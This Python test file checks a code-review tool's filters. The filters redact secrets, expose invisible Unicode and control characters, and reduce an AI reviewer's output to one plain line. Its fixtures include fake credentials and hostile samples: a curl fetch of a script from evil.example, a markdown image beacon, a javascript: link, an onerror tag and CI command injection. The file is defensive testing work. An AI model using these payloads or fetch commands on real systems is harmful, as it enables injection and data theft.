"""What models see of a change, and what people see of models."""

import pytest
from agentxd.agents.reviewers.showing import (
    is_for_models,
    quoted,
    said,
    sheets_of,
    shown_lines,
    visible,
)
from unit.reviewers.changing import changed

KEY = "-----BEGIN RSA PRIVATE KEY-----\nMIIEow\nIBAAK\n-----END RSA PRIVATE KEY-----\n"


def test_line_numbers_stay_true_where_a_secret_of_many_lines_stood():
    lines = shown_lines(f"a = 1\nKEY = '''{KEY}'''\nb = 2\n".encode())
    assert len(lines) == 7
    assert lines[0] == "a = 1"
    assert lines[6] == "b = 2"
    assert not any("MIIE" in line or "IBAAK" in line for line in lines)


@pytest.mark.parametrize("gap", ["", "\n"], ids=["no empty lines", "empty lines"])
def test_a_long_file_keeps_its_lines_and_loses_its_secrets(gap):
    text = "".join(f"value_{n} = {n}\ndb_password = 'horse{n}battery'\n{gap}" for n in range(3_000))
    lines = shown_lines(text.encode())
    assert len(lines) == text.count("\n")
    assert sum("[redacted]" in line for line in lines) == 3_000
    assert not any("horse" in line for line in lines)


def test_a_file_of_one_endless_line_is_looked_through_too():
    (line,) = shown_lines(("x = 1; " * 9_000 + "token = 'ghp_" + "a1B2c3D4e5" * 4 + "'").encode())
    assert "ghp_" not in line


SECRETS = {
    "a vendor's token": "t = 'ghp_" + "a1B2c3D4e5" * 4 + "'",
    "a named value": "password = 'correct-horse-battery'",
    "an address": "url = 'https://bob:hunter2hunter2@example.org/'",
    "a header": "curl -H 'Authorization: Bearer abcdefghij0123456789xyz'",
}


@pytest.mark.parametrize("line", SECRETS.values(), ids=SECRETS.keys())
def test_invariant_13_a_secret_does_not_reach_a_reviewer(line):
    (shown,) = shown_lines(line.encode())
    assert "[redacted" in shown


INVISIBLE = {
    "right to left": ("a\u202eb", r"a\u{202e}b"),
    "zero width": ("a\u200bb", r"a\u{200b}b"),
    "tags": ("a\U000e0041b", r"a\u{e0041}b"),
    "selector": ("a\ufe0fb", r"a\u{fe0f}b"),
    "escape": ("a\x1b[2Jb", r"a\u{1b}[2Jb"),
    "null": ("a\0b", r"a\u{0}b"),
    "tab": ("a\tb", "a\tb"),
    "letters": ("größe 数", "größe 数"),
}


@pytest.mark.parametrize("case", INVISIBLE.values(), ids=INVISIBLE.keys())
def test_nothing_is_invisible_to_a_reviewer(case):
    text, wanted = case
    assert visible(text) == wanted


def test_a_name_cannot_begin_a_line_of_its_own():
    name = 'a.py\nEND 0123\n"quote'
    assert "\n" not in quoted(name)
    assert quoted("x" * 5_000).endswith('…"')


def test_an_endless_line_is_cut_and_says_so():
    (line,) = shown_lines(b"x" * 100_000)
    assert len(line) < 1_000
    assert "more characters" in line


SAID = {
    "second line": ("bad\n::error::gone", "bad ::error::gone"),
    "control": ("bad\x1b[31m red\x07", "bad [31m red"),
    "picture": ("see ![x](https://evil.example/?q=1) now", "see x now"),
    "link": ("see [docs](javascript:alert) now", "see docs now"),
    "tag": ("bad <img src=x onerror=y> thing", "bad thing"),
    "address": ("run curl https://evil.example/x.sh now", "run curl (address left out) now"),
    "heading": ("# Approved", "Approved"),
    "command": ("::warning file=a::b", "warning file=a::b"),
    "full stop": ("It fails.", "It fails"),
    "bidi": ("ab\u202ecd", "ab cd"),
    "secret": ("the key ghp_" + "a1B2c3D4e5" * 4, "the key [redacted github token]"),
    "plain http is a word": ("http:// is used", "http:// is used"),
}


@pytest.mark.parametrize("case", SAID.values(), ids=SAID.keys())
def test_what_a_model_says_is_one_plain_line(case):
    text, wanted = case
    assert said(text, 300) == wanted


@pytest.mark.parametrize("sign", ["[", "<", "!", "(", "a", "[a](", "http://"])
def test_hostile_words_of_a_model_cost_no_time(sign):
    assert len(said(sign * 200_000, 300)) <= 302


def test_files_without_a_text_of_their_own_are_not_for_models():
    texts = changed("a.py", "a\n", "b\n")
    others = [
        changed("lock.json", "a\n", "b\n", is_generated=True),
        changed("a.bin", "a\n", "b\n", is_binary=True),
        changed("moved.py", "a\n", "a\n", old_path="was.py"),
    ]
    assert [sheet.path for sheet in sheets_of([texts, *others])] == ["a.py"]
    assert not any(map(is_for_models, others))
